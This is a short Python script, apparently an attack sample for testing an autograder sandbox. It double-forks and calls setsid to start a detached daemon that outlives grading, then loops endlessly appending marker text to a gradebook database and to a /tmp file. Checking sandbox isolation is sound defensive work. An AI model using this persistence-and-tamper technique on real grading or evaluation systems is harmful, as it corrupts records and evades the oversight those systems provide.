"""Start a detached daemon (double fork, setsid) that outlives grading and keeps trying to reach the
gradebook and to leave a trace in /tmp."""
import os
import pathlib
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        root = pathlib.Path.cwd().parents[2]
        for fd in range(3):
            os.close(fd)
        while True:
            for target in (root / "gradebook.db", pathlib.Path(f"/tmp/course-attack-daemon-{os.getpid()}")):
                try:
                    with open(target, "a") as handle:
                        handle.write("daemon was here\n")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
time.sleep(0.5)
print("ATTACK-RAN daemon")
